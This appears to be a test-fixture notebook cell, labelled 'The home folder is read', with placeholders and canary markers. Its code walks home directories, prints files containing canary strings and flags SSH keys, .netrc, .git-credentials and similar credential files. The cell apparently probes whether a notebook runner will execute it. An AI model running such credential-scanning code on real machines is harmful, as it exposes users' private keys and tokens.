# %% [markdown] row="A7"
# # The home folder is read
#
# Private letters, keys and tokens of the instructor.

# %% before="mean-square"
import os, pathlib
for home in ("@HOME@", os.path.expanduser("~"), "/root", "/home"):
    for folder, _, names in os.walk(home):
        for name in names:
            try:
                text = pathlib.Path(folder, name).read_text(errors="replace")
            except OSError:
                continue
            if "canary-" in text:
                print(text[:500])
            if name in ("id_rsa", "id_ed25519", ".pypirc", ".netrc", ".git-credentials", "notebook_cookie_secret", "credentials"):
                print("@CLAIM@", name)
